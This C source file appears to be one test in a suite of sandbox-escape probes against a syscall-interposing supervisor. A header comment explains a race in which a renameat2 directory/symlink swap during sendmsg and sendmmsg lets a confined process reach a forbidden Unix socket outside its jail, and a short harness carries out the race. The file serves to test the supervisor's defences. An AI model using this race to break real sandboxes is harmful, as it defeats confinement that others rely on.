/* e0208-sendmsg-socket-swap - e0207's directory-component swap, on the
 * msg_name of sendmsg() and sendmmsg() on a datagram socket.
 *
 * Attack: "e0208-d" is a real directory holding a datagram socket of the
 * program's own named like the forbidden one, "e0208-s" a symbolic link
 * to the forbidden socket's directory (outside the jail, a listener that
 * counts datagrams); a thread swaps the two names (renameat2
 * RENAME_EXCHANGE) while the main thread sends to "e0208-d/NAME", by
 * sendmsg and sendmmsg in turn.  The supervisor checks the path while
 * e0208-d is the directory; the kernel may walk it when it is the link.
 * A msghdr is one more pointer away than connect's address, so a
 * supervisor that pins connect's may still pass msg_name on as a path.
 * Source: Garfinkel 2003, "Traps and Pitfalls" (races on path
 * components); janus team (sendmsg's msg_name, doc/races.md section 3).
 * Usage: e0208-sendmsg-socket-swap FORBIDDEN-SOCKET */
#include <limits.h>

#include "escape.h"

int main(int argc, char **argv)
{
	esc_need_args(argc, 2, "e0208-sendmsg-socket-swap FORBIDDEN-SOCKET");
	char own[PATH_MAX * 2];
	struct esc_swap w;
	esc_swap_make(&w, "e0208", argv[1], NULL, own, sizeof own);
	int mine = esc_unix_dgram_bind(own);
	struct sockaddr_un sa;
	socklen_t len = esc_unix_addr(&sa, own);
	esc_swap_start(&w, 1);
	esc_race_sendmsg_unix(&sa, len, mine, true);
	esc_swap_stop(&w);
	return 0;
}
